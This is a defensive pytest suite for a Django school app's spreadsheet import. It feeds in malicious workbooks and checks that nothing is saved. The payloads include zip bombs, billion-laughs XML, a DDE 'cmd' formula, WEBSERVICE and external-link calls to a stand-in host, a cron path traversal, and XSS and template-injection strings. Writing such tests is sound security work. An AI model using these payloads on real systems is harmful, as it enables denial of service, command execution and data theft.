"""Files made to harm: each is answered with a sentence or a preview, and no row is written."""

import io
import os
import resource
import struct
import zipfile
from datetime import date

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from logistics.archives import MEGABYTE
from logistics.school.models import Child
from tests.imports.files import sheet, with_entries, with_replaced, workbook

HEADINGS = ["Number", "Name", "Sex", "Date of birth", "Class"]
ROW = ["N1", "A", "girl", "2022-05-01", "小九班"]  # there is no such class


def plain():
    return workbook(HEADINGS, ROW)


def in_sheet(old, new):
    name = "xl/worksheets/sheet1.xml"
    return with_replaced(plain(), name, lambda xml: xml.replace(old, new, 1))


def far_cell(row, column):
    def place(book):
        book.active.cell(row, column, "x")

    return workbook(HEADINGS, ROW, change=place)


def laughing():
    entities = b"".join(b'<!ENTITY l%d "%s">' % (n + 1, b"&l%d;" % n * 10) for n in range(9))
    head = b'<!DOCTYPE lolz [<!ENTITY l0 "lol">' + entities + b"]>"
    return in_sheet(b"<worksheet", head + b"<worksheet")


def nested():
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", bytes(30 * MEGABYTE))
    return with_entries(plain(), **{"xl/media/a.zip": inner.getvalue() * 4})


def doubled():
    with pytest.warns(UserWarning, match="Duplicate"):
        return with_entries(plain(), **{"xl/workbook.xml": "<a/>"})


def encrypted():
    data = bytearray(plain())
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def lying():
    """The first entry is said to unpack to four gigabytes."""
    data = plain()
    place = data.index(b"PK\x01\x02") + 24
    return data[:place] + struct.pack("<I", 0xFFFFFFF0) + data[place + 4 :]


def hidden_only():
    def hide(book):
        book.create_sheet("front")
        book.worksheets[0].sheet_state = "hidden"
        book.active = 1

    return workbook(HEADINGS, ROW, change=hide)


def merged():
    def merge(book):
        book.active.merge_cells("A2:A4")
        book.active.cell(3, 2, "B")

    return workbook(HEADINGS, ROW, change=merge)


def uncalculated():
    return workbook(HEADINGS, ["=A1", "=B1", "girl", "2022-05-01", "=1+1"])


def calling_out():
    link = b'<hyperlinks><hyperlink ref="A1" r:id="rId9"/></hyperlinks>'
    data = in_sheet(b"</worksheet>", link + b"</worksheet>")
    target = "http://192.0.2.1/steal"
    external = f'<externalLink xmlns="x"><file target="{target}"/></externalLink>'
    rels = f'<Relationships><Relationship Id="rId1" TargetMode="External" Target="{target}"/></Relationships>'
    return with_entries(
        data,
        **{
            "xl/externalLinks/externalLink1.xml": external,
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
        },
    )


def dated_from_1904():
    def old_mac(book):
        book.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
        book.active["D2"] = date(2022, 5, 1)

    return workbook(HEADINGS, ROW, change=old_mac)


ATTACKS = {
    "zip bomb": lambda: with_entries(plain(), **{"xl/worksheets/b.xml": bytes(60 * MEGABYTE)}),
    "many entries": lambda: with_entries(plain(), **{f"xl/{n}.xml": "" for n in range(250)}),
    "zip in a zip": nested,
    "said to be four gigabytes": lying,
    "far corner": lambda: far_cell(1_048_576, 16_384),
    "a million rows": lambda: in_sheet(b'<row r="2"', b'<row r="1000000"'),
    "sixteen thousand columns": lambda: far_cell(2, 16_000),
    "billion laughs": laughing,
    "external link": calling_out,
    "dde": lambda: workbook(HEADINGS, ['=cmd|"/c calc"!A0', *ROW[1:]]),
    "webservice": lambda: workbook(HEADINGS, ['=WEBSERVICE("http://192.0.2.1")', *ROW[1:]]),
    "encrypted": encrypted,
    "broken in the middle": lambda: plain()[: len(plain()) // 2],
    "broken at the end": lambda: plain()[:-30],
    "nothing but its first bytes": lambda: b"PK\x03\x04",
    "a program": lambda: b"MZ\x90\x00" + os.urandom(2000),
    "an old office file of noise": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4096),
    "another document": lambda: with_replaced(plain(), "", bytes).replace(b"xl/", b"zz/"),
    "a name twice": doubled,
    "a path upwards": lambda: with_entries(plain(), **{"../../../etc/cron.d/x": "* * * * *"}),
    "a name of four bytes a letter": lambda: with_entries(plain(), **{"😀𠮷.xml": "<a/>"}),
    "a macro inside": lambda: with_entries(plain(), **{"xl/vbaProject.bin": os.urandom(500)}),
    "hidden sheets": hidden_only,
    "merged cells": merged,
    "formulas never calculated": uncalculated,
    "days counted from 1904": dated_from_1904,
    "a day before 1900": lambda: workbook(HEADINGS, [*ROW[:3], "1899-12-31", ROW[4]]),
    "empty": lambda: b"",
    "only zeros": lambda: bytes(5000),
}


MOST_MEMORY = 200 * 1024  # kilobytes beyond what was taken before


def taken_memory():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


@pytest.fixture
def alone(monkeypatch):
    """No way out of this computer."""
    monkeypatch.setattr("socket.socket.connect", None)
    monkeypatch.setattr("socket.getaddrinfo", None)


@pytest.mark.usefixtures("alone")
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_harmful_file_is_answered_with_a_sentence_and_writes_nothing(school, enter, attack):
    client = enter("doctor", person=school.doctor)
    file = SimpleUploadedFile("list.xlsx", ATTACKS[attack]())
    before = taken_memory()

    answer = client.post(
        reverse("imports:import_new", args=["children"]), {"file": file}, follow=True
    )
    preview = answer.context.get("check")
    refused = answer.context["form"].errors["file"] if "form" in answer.context else []

    assert answer.status_code == 200
    assert refused or preview.problems
    assert not Child.objects.exists()
    assert taken_memory() - before < MOST_MEMORY


def test_a_workbook_with_macros_is_refused_by_its_name(school, enter):
    client = enter("doctor", person=school.doctor)
    file = SimpleUploadedFile("list.xlsm", plain())

    page = client.post(reverse("imports:import_new", args=["children"]), {"file": file})

    assert "Only .xlsx, .xls and .csv can be imported" in page.text


def test_a_file_of_more_than_ten_megabytes_is_refused(school, enter):
    client = enter("doctor", person=school.doctor)
    file = SimpleUploadedFile("list.csv", b"a,b\n" * (3 * MEGABYTE))

    page = client.post(reverse("imports:import_new", args=["children"]), {"file": file})

    assert "10 MB" in page.text


MARKUP = ["<script>alert(1)</script>", '" onmouseover="x', "{{ settings }}", "%(name)s %s {0}"]


@pytest.mark.parametrize("words", MARKUP)
def test_what_a_cell_says_is_only_ever_shown(school, enter, words):
    client = enter("doctor", person=school.doctor)
    file = sheet([*HEADINGS, words], ["N1", words, words, words, words, words])

    page = client.post(
        reverse("imports:import_new", args=["children"]), {"file": file}, follow=True
    ).text

    assert "<script>alert" not in page
    assert 'onmouseover="x' not in page.replace("&quot; onmouseover=&quot;x", "")
